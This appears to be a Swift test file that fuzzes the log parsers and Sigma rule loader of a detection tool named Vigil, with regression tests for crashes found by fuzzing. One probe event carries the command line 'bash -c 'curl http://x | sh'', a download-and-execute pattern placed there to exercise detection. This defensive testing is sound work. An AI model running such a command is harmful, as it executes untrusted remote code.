import Foundation
import Testing
import VigilTestSupport
import VigilDetection
import VigilIngest
import VigilModel

/// Bounded fuzzing of every parser and of the Sigma rule loader, seeded from ../shared/corpus.
/// A crash fails the run; findings are fixed and kept below as regression tests. The targets
/// run one at a time, so that fuzzing holds at most one of the test threads.
@Suite(.serialized, .runsOn(.busy)) struct FuzzTests {
    /// The first 16 KiB of every corpus log, the seeds for every parser: each format also
    /// meets the others' input, as with a wrong `--format`.
    static let logSeeds: [[UInt8]] = corpusFiles("logs", suffixes: [".log", ".json", ".ndjson", ".txt"]).compactMap { url in
        (try? Data(contentsOf: url)).map { Array($0.prefix(16_384)) }
    }

    @Test(arguments: SourceFormat.allCases)
    func parserSurvivesMutatedInput(format: SourceFormat) async throws {
        var fuzzer = MutationFuzzer(seeds: Self.logSeeds, salt: UInt64(SourceFormat.allCases.firstIndex(of: format)!))
        let ran = try await fuzzer.run { input, iteration in
            let lineCount = input.filter { $0 == 0x0A }.count + 1
            var stream = try EventStream(source: ByteSource(bytes: input, name: "fuzz"), format: format,
                                         context: ParserContext(integration: "fuzz", defaultHostname: "fuzz"))
            var events = 0
            var rejected = 0
            let records = try stream.forEachBatch(limit: 5) { batchEvents, batchRejected in
                events += batchEvents.count
                rejected += batchRejected.count
                for event in batchEvents where !(1...lineCount).contains(event.line) {
                    Issue.record("\(format) iteration \(iteration): event line \(event.line) is outside 1…\(lineCount)")
                }
                for rejection in batchRejected where rejection.reason.isEmpty || !(1...lineCount).contains(rejection.line) {
                    Issue.record("\(format) iteration \(iteration): rejection without a reason or line: \(rejection)")
                }
            }
            // A record is rejected at most once; the rest became events or were skipped.
            #expect(rejected <= records, "\(format) iteration \(iteration)")
        }
        #expect(ran > 0)
    }

    @Test func ruleLoaderSurvivesMutatedRules() async throws {
        let files = corpusFiles("sigma", suffixes: [".yml"])
        let seeds = stride(from: 0, to: files.count, by: max(1, files.count / 60)).compactMap { try? Data(contentsOf: files[$0]) }.map(Array.init)
        let probe = Event(time: Timestamp(microseconds: 0), machine: MachineIdentity(hostname: "h", platform: .linux), sourceFormat: "json",
                          integration: "fuzz", logSource: LogSource(product: "linux", category: "process_creation"),
                          fields: [EventField(FieldKey("CommandLine"), "bash -c 'curl http://x | sh'"), EventField(FieldKey("Image"), "/bin/bash")],
                          raw: "", line: 1)
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-fuzz-\(UUID().uuidString).yml").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        var fuzzer = MutationFuzzer(seeds: seeds, salt: 0x5191A)
        var loadedRules = 0
        var reportedErrors = 0
        let ran = try await fuzzer.run { input, _ in
            try Data(input).write(to: URL(fileURLWithPath: path))
            let loaded = RuleSet.load(paths: [path])
            loadedRules += loaded.ruleSet.rules.count
            reportedErrors += loaded.errors.count + loaded.entries.filter { $0.error != nil }.count
            var detector = Detector(ruleSet: loaded.ruleSet)
            var detections: [Detection] = []
            detector.detect(probe, into: &detections)
        }
        #expect(ran > 0)
        // Mutations leave some rules whole and break others; both paths were exercised.
        #expect(loadedRules > 0)
        #expect(reportedErrors > 0)
    }

    // MARK: Regressions found by fuzzing

    /// A syntax error after the first YAML document used to end the file quietly: the broken
    /// rule vanished from `rules check` with no error.
    @Test func aYAMLSyntaxErrorIsReportedNotSkipped() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-fuzz-\(UUID().uuidString).yml").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        try Data("title: t\nlogsource: [\n".utf8).write(to: URL(fileURLWithPath: path))
        let loaded = RuleSet.load(paths: [path])
        #expect(loaded.errors.map(\.code) == [.badYAML])
    }

    /// Deeply nested YAML is refused by the YAML reader's nesting limit, with a message.
    @Test func deeplyNestedYAMLIsAnError() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-fuzz-\(UUID().uuidString).yml").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        let yaml = "title: t\nlogsource:\n  product: x\ndetection:\n  selection:\n    f: " + String(repeating: "[", count: 100_000) + "\n  condition: selection\n"
        try Data(yaml.utf8).write(to: URL(fileURLWithPath: path))
        let loaded = RuleSet.load(paths: [path])
        #expect(loaded.errors.first?.message.contains("nesting") == true)
    }

    /// JSON nested 50,000 deep used to overflow the stack of the recursive flattener.
    @Test func deeplyNestedJSONIsRejected() throws {
        let input = Array((#"{"a":"# + String(repeating: "[", count: 50_000) + "\n" + String(repeating: #"{"a":"#, count: 50_000) + "\n").utf8)
        var stream = try EventStream(source: ByteSource(bytes: input, name: "nested"), format: .json, context: ParserContext(integration: "fuzz"))
        var reasons: [String] = []
        try stream.forEachBatch { _, rejected in reasons += rejected.map(\.reason) }
        #expect(reasons.count == 2)
        #expect(reasons.allSatisfy { $0.contains("nest deeper than 64 levels") })
    }
}

extension FuzzTests {
    /// A stray `}` at the top of a JSON array used to frame an empty record forever.
    @Test func aStrayClosingBraceInAJSONArrayEnds() throws {
        let input = Array(#"[{"a":"1"}}, {"b":"2"}]"#.utf8)
        var stream = try EventStream(source: ByteSource(bytes: input, name: "stray"), format: .json, context: ParserContext(integration: "fuzz"))
        var events = 0
        var rejected = 0
        let records = try stream.forEachBatch { events += $0.count; rejected += $1.count }
        #expect(records == 2)
        #expect(events == 1)
        #expect(rejected == 1)
    }
}

extension FuzzTests {
    /// An auditd stamp of 1e300 seconds used to trap converting to microseconds.
    @Test func anAuditdTimeOutOfRangeIsRejected() throws {
        let input = Array("type=SYSCALL msg=audit(1e300:7): syscall=59 success=yes\ntype=SYSCALL msg=audit(1700000000.123:8): syscall=59 success=yes\n".utf8)
        var stream = try EventStream(source: ByteSource(bytes: input, name: "audit"), format: .auditd, context: ParserContext(integration: "fuzz", defaultHostname: "h"))
        var events: [Event] = []
        var rejected: [RejectedRecord] = []
        try stream.forEachBatch { events += $0; rejected += $1 }
        #expect(rejected.map(\.line) == [1])
        #expect(events.map(\.line) == [2])
    }

    /// Time text with more digits than an Int64 holds used to trap instead of failing to parse.
    @Test(arguments: ["12345678901234567890123", "99999999999999999999.5"])
    func overlongEpochDigitsDoNotParse(text: String) {
        #expect(Timestamp(parsing: text) == nil)
    }

    /// Relative times and durations that overflow are refused, not trapped on.
    @Test(arguments: ["99999999999999999w", "9223372036854775807d", "922337203685477580s"])
    func overflowingDurationsAreRefused(text: String) {
        #expect(Timestamp(absoluteOrRelative: text) == nil)
    }
}

extension FuzzTests {
    /// A ClamAV line with a 20-digit year used to overflow computing the day number.
    @Test func aClamAVYearOutOfRangeIsNotAnEvent() throws {
        let input = Array("Fri Nov 27 20:23:01 99999999999999999 -> /tmp/x: Eicar-Signature FOUND\nFri Nov 27 20:23:02 2026 -> /tmp/y: Eicar-Signature FOUND\n".utf8)
        var stream = try EventStream(source: ByteSource(bytes: input, name: "clamd.log"), format: .clamav, context: ParserContext(integration: "fuzz", defaultHostname: "h"))
        var events: [Event] = []
        try stream.forEachBatch { batch, _ in events += batch }
        #expect(events.map(\.line).contains(2))
        #expect(events.allSatisfy { $0.time.microseconds < 253_402_300_800_000_000 })
    }
}
